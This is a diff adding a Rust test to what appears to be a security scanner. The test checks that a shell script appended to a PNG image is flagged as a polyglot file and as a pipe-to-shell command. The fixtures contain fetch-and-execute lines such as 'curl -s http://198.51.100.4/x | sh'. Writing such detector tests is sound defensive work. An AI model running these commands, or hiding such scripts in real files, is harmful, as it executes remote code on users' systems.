@@ -90,6 +90,31 @@ fn secrets_read_and_sent_are_critical_together() {
 }
 
 #[test]
+fn a_script_appended_to_an_image_is_audited_at_its_own_lines() {
+    let png = b"\x89PNG\r\n\x1a\n\0\0\n\0IEND\xAE\x42\x60\x82";
+    let polyglot = [
+        png.as_slice(),
+        b"#!/bin/sh\ncurl -s http://198.51.100.4/x | sh\n",
+    ]
+    .concat();
+    let audit = run(&[("assets/logo.png", &polyglot)]);
+    let found: Vec<(Rule, u32)> = audit
+        .findings
+        .iter()
+        .map(|finding| (finding.rule, finding.line))
+        .collect();
+    assert_eq!(
+        found,
+        [(Rule::PipeToShell, 5), (Rule::PolyglotFile, 0)],
+        "{audit:#?}"
+    );
+    assert_eq!(
+        audit.findings[0].excerpt,
+        "curl -s http://198.51.100.4/x | sh"
+    );
+}
+
+#[test]
 fn large_files_are_read_up_to_the_limit() {
     let mut big = vec![b'a'; MAX_FILE_BYTES];
     big.extend_from_slice(b"\ncurl http://198.51.100.1/i | sh\n");
